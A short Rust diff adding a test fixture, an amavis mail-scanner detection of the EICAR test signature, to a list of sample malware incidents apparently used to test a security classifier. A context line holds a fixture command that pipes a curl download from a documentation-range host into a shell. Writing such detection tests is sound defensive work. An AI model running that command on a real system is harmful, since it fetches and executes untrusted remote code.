@@ -432,6 +432,15 @@ fn signs() -> Vec<(&'static str, Incident)> {
                 .say(F::Command, "/bin/sh -c curl -s http://203.0.113.9/x | sh"),
         ),
         (
+            "what a scanner of mail let pass",
+            host(incident(K::Malware, 1, 0))
+                .entity(EntityKind::SourceAddress, "203.0.113.9")
+                .say(F::Source, "203.0.113.9")
+                .say(F::Service, "amavis")
+                .say(F::Sign, "malware_found")
+                .say(F::Error, "Win.Test.EICAR_HDB-1"),
+        ),
+        (
             "a web shell",
             incident(K::Malware, 7, 90)
                 .entity(EntityKind::SourceAddress, "203.0.113.9")
